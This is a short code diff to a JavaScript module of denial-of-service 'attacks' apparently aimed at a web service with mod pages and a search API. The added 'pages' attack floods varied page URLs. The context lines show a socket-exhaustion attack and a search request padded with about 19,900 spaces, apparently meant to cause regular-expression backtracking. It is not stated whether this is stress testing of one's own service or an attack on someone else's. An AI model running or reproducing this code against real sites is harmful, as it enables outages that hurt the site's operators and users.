@@ -88,6 +88,17 @@ export const attacks = {
     await Promise.all(Array.from({ length: SOCKETS }, (_, index) => keepOpen(index)))
   },
 
+  pages: (target) =>
+    hammer((index) => {
+      const urls = [target.page, `${target.page}?at=${index}`, `${target.url}/mods?page=${index}`]
+      return ask({
+        url: urls[index % urls.length] ?? '',
+        from: FROM,
+        agent,
+        headers: { accept: 'text/html' },
+      })
+    }),
+
   regularExpressions: (target) => {
     const facets = encodeURIComponent(JSON.stringify([[`title:x${' '.repeat(19_900)}y`]]))
     return hammer(() => ask({ url: `${target.url}/v2/search?facets=${facets}`, from: FROM, agent }))
